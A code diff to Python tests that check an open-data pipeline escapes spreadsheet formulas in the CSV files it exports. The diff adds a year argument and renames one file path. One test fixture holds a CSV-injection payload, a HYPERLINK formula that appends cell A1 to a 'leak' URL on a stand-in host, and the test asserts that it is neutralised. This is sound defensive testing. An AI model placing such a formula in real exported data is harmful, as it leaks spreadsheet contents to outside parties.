@@ -92,7 +92,7 @@ def test_the_data_package_says_how_formulas_are_neutralised() -> None:
     from reformdash.opendata.dataset import datapackage
     from reformdash.pipeline import check
 
-    description = datapackage(check(Project.at(ROOT)).catalogue)["description"]
+    description = datapackage(check(Project.at(ROOT)).catalogue, [2023])["description"]
     assert ("In the CSV files a text that begins with =, +, -, @, a tab or a carriage return (and is not a number) "
             "starts with an apostrophe") in description
 
@@ -134,7 +134,7 @@ def test_no_link_or_image_of_the_site_leads_to_a_script(hostile_site: Path) -> N
 
 def test_a_note_that_is_a_formula_is_text_in_every_csv(hostile_site: Path) -> None:
     written = '"\'=HYPERLINK(""http://example.org/?leak=""&A1,""bấm"")"'
-    for path in ("du-lieu/gia-tri.csv", "stnmt/2023-q1/so-lieu.csv", "stnmt/so-lieu.csv", "ky-bao-cao/2023-q1/so-lieu.csv"):
+    for path in ("du-lieu/gia-tri-2023.csv", "stnmt/2023-q1/so-lieu.csv", "stnmt/so-lieu.csv", "ky-bao-cao/2023-q1/so-lieu.csv"):
         text = (hostile_site / path).read_text(encoding="utf-8-sig")
         assert written in text, path
         assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
